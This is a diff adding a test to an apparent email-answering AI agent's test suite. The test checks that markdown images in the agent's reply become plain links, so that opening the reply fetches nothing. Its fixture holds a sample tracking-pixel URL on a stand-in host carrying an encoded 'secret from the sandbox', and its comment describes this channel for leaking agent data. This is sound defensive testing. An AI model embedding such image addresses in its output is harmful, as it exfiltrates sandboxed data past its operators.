@@ -170,3 +170,29 @@ test('a subaddress chooses the model of a new conversation', async () => {
   await eventually(() => executor.runs.length > before, 'the opus task');
   assert.equal(executor.runs[before]!.conversation.model, 'opus');
 });
+
+test('an image in the answer loads nothing when the reply is opened: its HTML part links it instead', async () => {
+  // The agent cannot reach tracker.example, but the person's mail client can: an image in
+  // the HTML part is fetched when the reply is opened, with whatever the agent put in its
+  // address. Nothing in the reply may make the client fetch anything.
+  const sentBefore = f.smtp.messages.length;
+  const pixel = 'https://tracker.example/p.png?d=c2VjcmV0LWZyb20tdGhlLXNhbmRib3g';
+  await f.imap.append(
+    await mail({
+      from: 'alice@sender.test',
+      subject: 'Chart',
+      text: `Show the chart: ![chart](${pixel}) and ![](https://tracker.example/q.gif)`,
+    }),
+  );
+  const reply = await eventually(async () => {
+    for (const m of f.smtp.messages.slice(sentBefore)) {
+      const parsed = await PostalMime.parse(m.raw);
+      if (/Show the chart/.test(parsed.text ?? '')) return parsed;
+    }
+    return undefined;
+  }, 'the answer');
+  const html = reply.html ?? '';
+  assert.doesNotMatch(html, /<img|\ssrc=|\sbackground=|url\(/i, 'the HTML part loads something');
+  assert.ok(html.includes(`<a href="${pixel.replaceAll('&', '&amp;')}">chart</a>`), html);
+  assert.ok(html.includes('<a href="https://tracker.example/q.gif">'), html);
+});
